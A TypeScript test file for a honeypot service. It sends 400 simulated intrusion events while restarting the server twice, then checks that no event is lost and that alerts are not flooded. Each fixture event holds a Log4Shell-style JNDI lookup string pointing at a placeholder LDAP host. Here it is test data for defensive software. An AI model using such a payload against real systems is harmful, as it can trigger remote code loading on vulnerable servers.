import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { newWebhookSecret } from '../../src/notify/channels/webhook.ts';
import { answer, openReceiver } from '../support/notify/receiver.ts';
import { type ServerProcess, startServerProcess } from '../support/process.ts';
import { testSecret } from '../support/server.ts';

const sources = 400;
/** src/alert/waves.ts: so many are told one by one, then once at each doubling. */
const singles = 20;
const perLife = singles + 1 + Math.ceil(Math.log2(sources / singles));

/** An attempt from outside that opens an incident of its own. */
const eventOf = (n: number): object => ({
  event_id: `wave-${n}`,
  service: 'HTTP',
  source_ip: `20.${n >> 8}.${n & 255}.7`,
  timestamp: new Date().toISOString(),
  activity: 'http_request',
  payload: 'GET /?x=${jndi:ldap://203.0.113.1:1389/a} HTTP/1.1',
});

const until = async (holds: () => boolean): Promise<void> => {
  while (!holds()) await delay(20);
};

async function call<T>(url: string, headers: Record<string, string>, body?: object): Promise<T> {
  const response = await fetch(url, {
    method: body ? 'POST' : 'GET',
    headers: { ...(body ? { 'content-type': 'application/json' } : {}), ...headers },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  if (!response.ok) throw new Error(`${url} answered ${response.status}: ${await response.text()}`);
  return (await response.json()) as T;
}

it('a server that is killed in the middle of a wave loses no event and sends no storm of messages', async (t) => {
  const folder = mkdtempSync(join(tmpdir(), 'decoyverse-wave-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  const receiver = await openReceiver(answer(204));
  t.after(() => receiver.close());
  const start = (): Promise<ServerProcess> =>
    startServerProcess({
      DATA_DIR: folder,
      JWT_SECRET_KEY: testSecret,
      NOTIFY_ALLOW_PRIVATE: '127.0.0.1',
    });
  let server = await start();
  t.after(() => server.kill());
  const user = await call<{ access_token: string }>(
    `${server.address}/auth/register`,
    {},
    { email: 'owner@example.org', password: 'correct horse battery' },
  );
  const mine = { authorization: `Bearer ${user.access_token}` };
  const node = await call<{ api_key: string }>(`${server.address}/nodes`, mine, { name: 'wave' });
  await call(`${server.address}/api/channels`, mine, {
    name: 'wave',
    channel: 'webhook',
    settings: { url: `${receiver.url}/hook`, secret: newWebhookSecret() },
  });

  // Every event until it is acknowledged, as a client does, by four at a time; killed twice on the way.
  const waiting = Array.from({ length: sources }, (_, n) => n);
  let acknowledged = 0;
  const killAt = [sources / 4, sources / 2];
  let reborn: Promise<void> = Promise.resolve();
  const send = async (): Promise<void> => {
    for (let n = waiting.shift(); n !== undefined; n = waiting.shift()) {
      await reborn;
      const sent = await call(
        `${server.address}/api/honeypot-log`,
        { 'x-node-key': node.api_key },
        eventOf(n),
      ).then(
        () => true,
        (error: unknown) => {
          // Whatever a living server answers is its answer; only who was killed is asked again.
          if (error instanceof Error && error.message.includes(' answered ')) {
            waiting.length = 0;
            throw error;
          }
          return false;
        },
      );
      if (!sent) waiting.push(n);
      else acknowledged += 1;
      if (killAt[0] !== undefined && acknowledged >= killAt[0]) {
        killAt.shift();
        reborn = (async () => {
          await server.kill();
          server = await start();
        })();
      }
    }
  };
  await Promise.all(Array.from({ length: 4 }, send));
  assert.equal(acknowledged, sources);

  const { total_attacks } = await call<{ total_attacks: number }>(`${server.address}/api/stats`, mine);
  assert.equal(total_attacks, sources);
  const list = async <T>(path: string, name: string): Promise<T[]> => {
    const items: T[] = [];
    for (let cursor: string | null = ''; cursor !== null; ) {
      const after: string = cursor === '' ? '' : `&cursor=${encodeURIComponent(cursor)}`;
      const page = await call<Record<string, unknown>>(`${server.address}${path}?limit=100${after}`, mine);
      items.push(...(page[name] as T[]));
      cursor = page.next_cursor as string | null;
    }
    return items;
  };
  const incidents = await list<{ source_ip: string }>('/api/incidents', 'items');
  assert.equal(incidents.length, sources);
  assert.equal(new Set(incidents.map(({ source_ip }) => source_ip)).size, sources);
  // What is to be sent is recorded with the events; that it arrives after a kill is the matter of test/notify/crash.
  const messages = await list<{ notice: { title: string } }>('/api/deliveries', 'items');
  assert.ok(messages.length >= perLife, `only ${messages.length} messages`);
  // Three lives, of which each may tell the wave from its beginning.
  assert.ok(messages.length <= 3 * perLife, `${messages.length} messages`);
  const waves = messages.filter(({ notice }) => /sources/.test(notice.title));
  assert.ok(waves.length > 0, 'the wave itself was told');
  await until(() => receiver.seen.length > 0);
});
